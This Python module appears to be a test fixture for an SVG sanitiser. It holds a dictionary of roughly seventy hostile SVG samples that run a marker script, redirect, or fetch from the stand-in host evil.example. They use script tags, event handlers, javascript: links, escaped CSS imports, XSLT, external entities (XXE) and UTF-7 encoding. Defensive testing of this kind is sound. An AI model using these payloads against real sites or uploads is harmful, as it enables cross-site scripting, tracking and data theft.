"""Drawings that would act, fetch or deceive if a browser were given them as they are."""

from __future__ import annotations

_HIT = "window.__hit=1;document.title='HIT'"
_AWAY = "http://evil.example/"
_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="10" height="10"'
_XHTML = "http://www.w3.org/1999/xhtml"
_XSL = "http://www.w3.org/1999/XSL/Transform"


def _drawing(inside: str, more: str = "", before: str = "") -> bytes:
    return f'{before}<svg {_SVG} {more}>{inside}<rect width="4" height="4" fill="red"/></svg>'.encode()


def _styled(css: str) -> bytes:
    return _drawing(f"<style>{css}</style>")


HOSTILE: dict[str, bytes] = {
    # Other languages inside XML.
    "refresh": _drawing(f'<h:meta xmlns:h="{_XHTML}" http-equiv="refresh" content="0;url={_AWAY}"/>'),
    "refresh without a prefix": _drawing(f'<meta xmlns="{_XHTML}" http-equiv="refresh" content="0;url={_AWAY}"/>'),
    "base": _drawing(f'<h:base xmlns:h="{_XHTML}" href="{_AWAY}"/><image href="#a"/>'),
    "link": _drawing(f'<h:link xmlns:h="{_XHTML}" rel="stylesheet" href="{_AWAY}a.css"/>'),
    "html script": _drawing(f'<h:script xmlns:h="{_XHTML}">{_HIT}</h:script>'),
    "html picture": _drawing(f'<h:img xmlns:h="{_XHTML}" src="{_AWAY}a.png" onerror="{_HIT}"/>'),
    "html frame": _drawing(f'<h:iframe xmlns:h="{_XHTML}" srcdoc="&lt;script>{_HIT}&lt;/script>"/>'),
    "html form": _drawing(
        f'<h:form xmlns:h="{_XHTML}" action="{_AWAY}"><h:input autofocus="" onfocus="{_HIT}"/></h:form>'
    ),
    "html style": _drawing(f'<h:style xmlns:h="{_XHTML}">@import "{_AWAY}"</h:style>'),
    "stylesheet instruction": _drawing("", before=f'<?xml-stylesheet type="text/css" href="{_AWAY}a.css"?>'),
    "transform of itself": _drawing(
        f'<xsl:element name="script" namespace="http://www.w3.org/2000/svg">{_HIT}</xsl:element>',
        more=f'xmlns:xsl="{_XSL}" xsl:version="1.0"',
        before='<?xml-stylesheet type="text/xsl" href=""?>',
    ),
    "transform by a fragment": _drawing(
        f'<xsl:stylesheet id="s" version="1.0" xmlns:xsl="{_XSL}"><xsl:template match="/"><script '
        f'xmlns="http://www.w3.org/2000/svg">{_HIT}</script></xsl:template></xsl:stylesheet>',
        before='<?xml-stylesheet type="text/xsl" href="#s"?>',
    ),
    "instruction inside": _drawing(f'<?xml-stylesheet href="{_AWAY}a.css"?>'),
    "events of XML": _drawing(
        f'<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h">{_HIT}</handler>'
    ),
    "mathematics": _drawing(
        f'<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext href="javascript:{_HIT}">a</m:mtext></m:math>'
    ),
    "inclusion": _drawing(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{_AWAY}a.xml"/>'),
    # Scripts.
    "script": _drawing(f"<script>{_HIT}</script>"),
    "script elsewhere": _drawing(f'<script href="{_AWAY}a.js"/>'),
    "script by xlink": _drawing(f'<script x:href="data:text/javascript,{_HIT}"/>'),
    "script in capitals": _drawing(f"<SCRIPT>{_HIT}</SCRIPT>"),
    "script with a prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{_HIT}</s:script></s:svg>'.encode(),
    "script in a switch": _drawing(f"<switch><script>{_HIT}</script><g/></switch>"),
    "script in a style": _drawing(f"<style><script>{_HIT}</script></style>"),
    "script in words": _drawing(f"<text><tspan><script>{_HIT}</script></tspan></text>"),
    "script in what is foreign": _drawing(
        f'<switch><foreignObject><s:script xmlns:s="http://www.w3.org/2000/svg">{_HIT}</s:script></foreignObject><g/></switch>'
    ),
    # Events.
    "load": _drawing("", more=f'onload="{_HIT}"'),
    "begin": _drawing(f'<rect><animate attributeName="x" onbegin="{_HIT}" dur="1s"/></rect>'),
    "focus": _drawing(f'<a href="#a" autofocus="" tabindex="0" onfocus="{_HIT}"><rect/></a>'),
    "event in capitals": _drawing(f'<rect ONLOAD="{_HIT}" onClick="{_HIT}"/>'),
    "event of a prefix": _drawing(f'<rect x:onload="{_HIT}"/>'),
    "error": _drawing(f'<image href="data:image/png;base64,AAAA" onerror="{_HIT}"/>'),
    # Addresses.
    "link that acts": _drawing(f'<a href="javascript:{_HIT}"><rect/></a>'),
    "link that acts, disguised": _drawing(f'<a x:href=" java&#10;script:{_HIT}"><rect/></a>'),
    "link to data": _drawing(f'<a href="data:text/html,&lt;script>{_HIT}&lt;/script>"><rect/></a>'),
    "link set later": _drawing(f'<a><set attributeName="href" to="javascript:{_HIT}"/><rect/></a>'),
    "link animated": _drawing(f'<a><animate attributeName="x:href" values="javascript:{_HIT}"/><rect/></a>'),
    "picture elsewhere": _drawing(f'<image href="{_AWAY}a.png" width="9" height="9"/>'),
    "picture beside it": _drawing('<image href="secret.png" width="9" height="9"/>'),
    "picture without a scheme": _drawing('<image x:href="//evil.example/a.png" width="9" height="9"/>'),
    "filter picture elsewhere": _drawing(f'<filter id="f"><feImage href="{_AWAY}a.png"/></filter>'),
    "use of another file": _drawing(f'<use href="{_AWAY}a.svg#a"/>'),
    "use of data": _drawing("<use href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='a'/>#a\"/>"),
    "drawing inside": _drawing('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
    "gradient elsewhere": _drawing(f'<linearGradient id="g" href="{_AWAY}a.svg#g"/>'),
    "path elsewhere": _drawing(f'<text><textPath href="{_AWAY}a.svg#p">a</textPath></text>'),
    "base of addresses": _drawing('<image href="#a"/>', more=f'xml:base="{_AWAY}"'),
    "frame": _drawing(f'<iframe src="javascript:{_HIT}"/>'),
    "video": _drawing(f'<video src="{_AWAY}a.mp4" onloadstart="{_HIT}"/>'),
    # Styles.
    "import": _styled(f'@import "{_AWAY}a.css";'),
    "import, escaped": _styled(f"@\\69mport url({_AWAY}a.css);"),
    "import behind an element": _styled(f'<g/>@import "{_AWAY}a.css";'),
    "import behind a comment": _styled(f'<!-- a -->@import "{_AWAY}a.css";'),
    "import in a section": _styled(f'<![CDATA[@import "{_AWAY}a.css";]]>'),
    "address in a rule": _styled(f"rect {{ fill: url({_AWAY}a.svg#a) }}"),
    "address, escaped": _styled(f"rect {{ fill: u\\72l({_AWAY}a.svg#a) }}"),
    "address in a media rule": _styled(f"@media all {{ rect {{ mask: url('{_AWAY}a.svg#a') }} }}"),
    "typeface elsewhere": _styled(
        f"@font-face {{ font-family: a; src: url({_AWAY}a.woff) }} text {{ font-family: a }}"
    ),
    "set of pictures": _styled(f'svg {{ background: image-set("{_AWAY}a.png" 1x) }}'),
    "set of pictures, old": _styled(f'svg {{ background: -webkit-image-set("{_AWAY}a.png" 1x) }}'),
    "source": _styled(f'svg {{ background-image: src("{_AWAY}a.png") }}'),
    "variable with an address": _styled(f"svg {{ --a: url({_AWAY}a.png); background: var(--a) }}"),
    "cursor": _drawing(f'<rect style="cursor: url({_AWAY}a.cur), auto"/>'),
    "namespace": _styled(f"@namespace url({_AWAY}); rect {{ fill: red }}"),
    "style attribute, escaped": _drawing(f'<rect style="fill:\\75rl({_AWAY}a.svg#a)"/>'),
    "attribute, escaped": _drawing(f'<rect fill="\\75rl({_AWAY}a.svg#a)"/>'),
    "attribute with a comment": _drawing(f'<rect fill="url/**/({_AWAY}a.svg#a)"/>'),
    "binding": _styled(f"rect {{ -moz-binding: url({_AWAY}a.xml#a); behavior: url(a.htc) }}"),
    # How it is written.
    "entity": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{_AWAY}">]><svg {_SVG}><text>&a;</text></svg>'.encode(),
    "entity behind an instruction": (
        f'<?xml version="1.0"?><?a b?><!DOCTYPE svg [<!ENTITY % a SYSTEM "{_AWAY}"> %a;]><svg {_SVG}/>'.encode()
    ),
    "other letters": f'<?xml version="1.0" encoding="UTF-7"?><svg {_SVG}>+ADw-script+AD4-{_HIT}+ADw-/script+AD4-</svg>'.encode(),
    "wide letters": f'<?xml version="1.0" encoding="UTF-16"?><svg {_SVG}><script>{_HIT}</script></svg>'.encode(
        "utf-16-le"
    ),
    "HTML that begins as a drawing": f"<svg {_SVG}/><script>{_HIT}</script>".encode(),
}
